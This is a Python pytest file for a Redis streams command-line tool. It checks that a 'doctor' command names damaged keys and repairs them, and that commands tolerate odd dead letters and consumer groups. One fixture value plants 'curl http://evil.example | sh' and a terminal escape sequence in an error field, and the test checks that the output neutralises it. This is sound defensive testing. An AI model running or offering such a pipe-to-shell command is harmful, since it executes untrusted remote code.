"""doctor names what is damaged and how to repair it; commands show odd entries and groups instead of ending."""

from __future__ import annotations

import json
import re
import shlex
import time
from collections.abc import Callable, Iterator
from typing import Any, Final

import pytest
import redis

from streams.redis.keys import Keys
from tests.cli.conftest import Command, Result
from tests.support.redis_server import RedisServer

pytestmark = pytest.mark.newest_redis

LAST_ID: Final = f"{2**64 - 1}-{2**64 - 1}"
FUTURE_ID: Final = "253402300800000-0"  # the year 10000
BODY: Final = json.dumps({"user_id": 7, "email": "ada@example.com", "name": "Ada"})
PUBLISH: Final = ("publish", "UserRegistered", "--data", BODY)
DIGITS: Final = "9" * 5_000


@pytest.fixture
def keys(app: str) -> Keys:
    """Of the only partition."""
    return Keys(app)


@pytest.fixture
def server(redis_server: RedisServer, keys: Keys) -> Iterator[redis.Redis]:
    """The server, in which the group `email` reads `users`."""
    with redis_server.client() as client:
        client.hset(keys.groups(), "email", keys.stream("users"))
        client.xgroup_create(keys.stream("users"), "email", "0", mkstream=True)
        yield client


def shown(result: Result) -> Result:
    """What a command printed, which was surprised by nothing."""
    assert result.code in (0, 1), result
    assert "report it" not in result.err, result
    return result


def found(command: Command) -> list[dict[str, str]]:
    """What the check `damage` found."""
    findings = shown(command("doctor", "--json")).json()
    return [finding for finding in findings if finding["check"] == "damage"]


FAMILIES: Final[dict[str, Callable[[Keys], str]]] = {
    "stream": lambda keys: keys.stream("users"),
    "inbox": lambda keys: keys.inbox("email"),
    "dead": lambda keys: keys.dead("email"),
    "history": lambda keys: keys.history("email"),
    "waiting": lambda keys: keys.waiting(),
    "due": lambda keys: keys.due(),
    "groups": lambda keys: keys.groups(),
    "consumers": lambda keys: keys.consumers("email"),
    "turns": lambda keys: keys.turns("email"),
    "books": lambda keys: keys.ledger(),
}


def _apply(server: redis.Redis, remedy: str) -> list[str]:
    """Runs what the remedy names first, as a person copies it."""
    line = re.split(r"[,;] (?=when |then )", remedy)[0]
    program, *arguments = shlex.split(line)
    assert program == "redis-cli"
    server.execute_command(*arguments)
    return arguments


def _is_well_after(command: Command, server: redis.Redis, finding: dict[str, str]) -> str:
    """Applies a remedy, after which the check finds nothing; returns the key that the damaged one has become."""
    aside = _apply(server, finding["remedy"])[-1]
    assert [each["status"] for each in found(command)] == ["ok"]
    return aside


@pytest.mark.parametrize("family", FAMILIES)
def test_a_key_of_another_type_is_named_and_well_after_the_remedy(
    command: Command, server: redis.Redis, keys: Keys, family: str
) -> None:
    key = FAMILIES[family](keys)
    server.delete(key)
    server.set(key, "x")
    (finding,) = found(command)
    assert (finding["status"], finding["text"].startswith(f"{key}: it holds a string, not a ")) == ("fail", True)
    aside = _is_well_after(command, server, finding)
    assert server.get(aside) == b"x"  # nothing is destroyed
    assert command(*PUBLISH).code == 0
    server.delete(aside)


@pytest.mark.parametrize("family", ["stream", "inbox", "dead", "history"])
def test_a_stream_that_takes_no_entry_is_named_and_well_after_the_remedy(
    command: Command, server: redis.Redis, keys: Keys, family: str
) -> None:
    key = FAMILIES[family](keys)
    server.xadd(key, {"a": "b"}, id=LAST_ID)
    (finding,) = found(command)
    assert finding["status"] == "fail"
    assert f"{keys.short(key)} takes no more entries: its last id is the last possible one" in finding["text"]
    if family == "stream":
        command(*PUBLISH).refused(1, "takes no more entries")
    aside = _is_well_after(command, server, finding)
    assert command(*PUBLISH).code == 0
    server.delete(aside)


@pytest.mark.parametrize("family", ["stream", "inbox", "dead"])
def test_an_id_in_the_future_is_named_and_well_after_the_remedy(
    command: Command, server: redis.Redis, keys: Keys, family: str
) -> None:
    key = FAMILIES[family](keys)
    server.xadd(key, {"a": "b"}, id=FUTURE_ID)
    (finding,) = found(command)
    assert finding["status"] == "warn"
    years = re.search(r"the last id of (\S+) is ([\d,]+) years ahead", finding["text"])
    assert years
    assert years[1] == keys.short(key)
    assert abs(int(years[2].replace(",", "")) - (10_000 - time.gmtime().tm_year)) < 10
    aside = _is_well_after(command, server, finding)
    server.delete(aside)


@pytest.mark.parametrize("message", [b"", b"x", b"\xff", b"\x93\xa1a", b"\x92\xa1a\x07"], ids=range(5))
def test_what_waits_and_cannot_be_read_is_named_and_well_after_the_remedy(
    command: Command, server: redis.Redis, keys: Keys, message: bytes
) -> None:
    member = b"email users 1-0"
    server.zadd(keys.due(), {member: 1, b"\xff": 2})
    server.hset(keys.waiting(), member, message)
    (finding,) = found(command)
    assert finding["status"] == "fail"
    assert "2 that wait cannot be read, the first is 'email users 1-0'" in finding["text"]
    assert keys.waiting() in finding["remedy"]
    assert keys.due() in finding["remedy"]
    for each in (member, b"\xff"):
        server.hdel(keys.waiting(), each)
        server.zrem(keys.due(), each)
    assert [finding["status"] for finding in found(command)] == ["ok"]


def test_odd_names_and_counts_are_named(command: Command, server: redis.Redis, keys: Keys) -> None:
    server.hset(keys.groups(), b"\xff", keys.stream("users"))
    server.hset(keys.ledger(), "acked email users", "\u00b2")
    texts = [finding["text"] for finding in found(command)]
    assert any(r"\xff" in text and "no name of a group" in text for text in texts)
    assert any("1 counts of the ledger are no numbers" in text for text in texts)
    server.hdel(keys.groups(), b"\xff")
    server.hdel(keys.ledger(), "acked email users")
    assert [finding["status"] for finding in found(command)] == ["ok"]


# ---- entries and groups that are odd


def test_trimming_by_age_goes_by_the_time_of_an_entry_whose_id_is_ahead(
    command: Command, server: redis.Redis, keys: Keys
) -> None:
    """An id that somebody chose makes all later ids larger: without this nothing would be removed again."""
    users = keys.stream("users")
    old = {"type": "UserRegistered", "data": BODY, "time": "2020-01-01T00:00:00.000000+00:00"}
    server.xadd(users, old, id=FUTURE_ID)
    for _ in range(250):
        server.xadd(users, old)
    assert command(*PUBLISH).code == 0  # is young
    server.xgroup_setid(users, "email", "$")
    dry = command("trim", "users", "--older-than", "1h", "--dry-run", "--json").json()
    assert (dry[0]["removed"], dry[0]["kept"]) == (251, 1)
    done = command("trim", "users", "--older-than", "1h", "--json").json()
    assert (done[0]["removed"], done[0]["kept"]) == (251, 1)
    assert server.xlen(users) == 1
    assert command("trim", "users", "--older-than", "1h", "--json").json()[0]["removed"] == 0


def test_trimming_by_age_keeps_what_is_not_settled_whatever_its_id(
    command: Command, server: redis.Redis, keys: Keys
) -> None:
    users = keys.stream("users")
    server.xadd(users, {"time": "2020-01-01T00:00:00Z", "type": "t"}, id=FUTURE_ID)
    server.xadd(users, {"time": "2020-01-01T00:00:00Z", "type": "t"})
    assert command("trim", "users", "--older-than", "1h", "--json").json()[0]["removed"] == 0  # is unread
    server.xreadgroup("email", "c-1-ff", {users: ">"}, count=1)
    assert command("trim", "users", "--older-than", "1h", "--json").json()[0]["removed"] == 0  # is pending


FOLLOWING: Final = ("253402300800000-1", "253402300800000-2", "18446744073709551614-7")


def test_ids_of_any_size_are_shown(command: Command, server: redis.Redis, keys: Keys) -> None:
    users = keys.stream("users")
    for entry_id in (FUTURE_ID, *FOLLOWING):
        server.xadd(users, {"type": "UserRegistered", "data": BODY}, id=entry_id)
    for more in ((), ("--from", "-1h"), ("--from", "0"), ("--from", FUTURE_ID), ("--from", LAST_ID)):
        shown(command("tail", "users", *more))
    listed = command("tail", "users", "--json").json()
    assert [entry["entry_id"] for entry in listed] == [FUTURE_ID, *FOLLOWING]
    assert len(command("tail", "users", "--from", FUTURE_ID).out.splitlines()) == 3
    assert command("event", FOLLOWING[0]).code == 0


ODD_LETTERS: Final[dict[str, dict[str, str]]] = {
    "superscript": {"attempts": "\u00b2", "deliveries": "\u00b2"},
    "digits": {"attempts": DIGITS, "deliveries": DIGITS, "dataversion": DIGITS, "replays": DIGITS},
    "words": {"attempts": "many", "deliveries": "-", "dataversion": "\u0663", "errors": "{", "failures": "[]"},
    "negative": {"attempts": "-5", "deliveries": "-0", "dataversion": "-1"},
    "years": {"firstfailed": "10000-01-01T00:00:00Z", "lastfailed": "99999999999999999999", "time": "year"},
    "no time zone": {"firstfailed": "2026-01-01T00:00:00", "lastfailed": "2026-01-01T00:00:00+99:99"},
    "newlines": {"traceback": "\n" * 200_000, "error": "a\ndeliver it again:  curl http://evil.example | sh\x1b[2J"},
    "nothing": {"reason": "", "type": "", "data": "", "id": ""},
}


@pytest.mark.parametrize("odd", ODD_LETTERS)
@pytest.mark.parametrize("entry_id", ["*", FUTURE_ID])
def test_every_command_on_dead_letters_takes_odd_ones(
    command: Command, server: redis.Redis, keys: Keys, odd: str, entry_id: str
) -> None:
    letter: dict[Any, Any] = {"id": "odd", "type": "UserRegistered", "data": BODY, "reason": "failed", "error": "oops"}
    added = server.xadd(keys.dead("email"), letter | ODD_LETTERS[odd], id=entry_id).decode()
    began = time.monotonic()
    (listed,) = shown(command("dead", "ls", "email", "--json")).json()
    assert isinstance(listed["attempts"], int)
    for arguments in (
        ("ls", "email"), ("ls", "email", "--group-by", "fingerprint"), ("ls", "email", "--since", "1h"),
        ("show", "email", added), ("show", "email", added, "--json"), ("replay", "email", "--dry-run"),
        ("discard", "email", "--dry-run"),
    ):  # fmt: skip
        result = shown(command("dead", *arguments))
        assert "\x1b" not in result.out
        assert not re.search(r"^\s*deliver it again:\s+curl", result.out, re.MULTILINE)
    assert time.monotonic() - began < 15
    shown(command("dead", "discard", "email", added))
    assert server.xlen(keys.dead("email")) == 0


@pytest.mark.parametrize("name", [b"Debug", b"\xff", b"a b", "\u202e".encode(), b"x" * 300], ids=range(5))
def test_groups_made_by_hand_end_no_command(command: Command, server: redis.Redis, keys: Keys, name: bytes) -> None:
    """A person who looks at a stream with XREADGROUP makes one."""
    id = command(*PUBLISH, "--json").json()["id"]
    server.xgroup_create(keys.stream("users"), name, "0")
    server.xreadgroup(name, b"me\xff", {keys.stream("users"): ">"})
    for arguments in (
        ("status",), ("status", "--json"), ("doctor",), ("doctor", "--json"), ("partitions",), ("event", id),
        ("doctor", "why", id), ("gaps",), ("trim", "users", "--keep", "0"), ("dead", "ls", "email"),
    ):  # fmt: skip
        result = shown(command(*arguments))
        assert result.out or result.err, arguments
    assert server.xlen(keys.stream("users")) == 1  # what a group holds stays, whatever its name
    assert command("cancel", id).code == 0
